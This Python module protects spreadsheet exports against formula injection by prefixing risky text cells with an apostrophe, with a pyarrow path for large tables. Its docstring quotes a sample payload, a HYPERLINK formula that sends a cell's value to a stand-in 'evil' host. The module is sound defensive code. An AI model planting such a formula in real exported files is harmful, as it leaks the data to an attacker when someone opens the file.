"""CSV/XLSX formula injection (CWE-1236): a text cell that a spreadsheet would read as a
formula — starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return — is written
with a leading apostrophe, so ``=HYPERLINK("http://evil/?"&A1)`` stays text when an analyst
opens the file. Numbers are typed columns and are not touched."""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralize(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def neutralize_table(table):
    """A pyarrow Table with every string column's values neutralized (Arrow kernels: a regular
    expression over the column, a copy only of the columns that need one; a Python call per
    cell took seconds for a million rows)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    pattern = "^[" + "".join("\\" + c if c in "-\\]^" else c for c in FORMULA_START) + "]"

    def safe(column):
        risky = pc.match_substring_regex(column, pattern)
        if pc.any(risky).as_py():
            return pc.if_else(risky, pc.binary_join_element_wise("'", column, ""), column)
        return column

    def text(t) -> bool:
        return pa.types.is_string(t) or pa.types.is_large_string(t)

    columns = []
    for column in table.columns:
        if text(column.type):
            column = safe(column)
        elif pa.types.is_dictionary(column.type) and text(column.type.value_type):
            # dictionary-encoded text (the batch results' labels and model columns): its values
            column = pa.chunked_array([pa.DictionaryArray.from_arrays(c.indices, safe(c.dictionary))
                                       for c in column.chunks], column.type)
        columns.append(column)
    return pa.Table.from_arrays(columns, schema=table.schema)
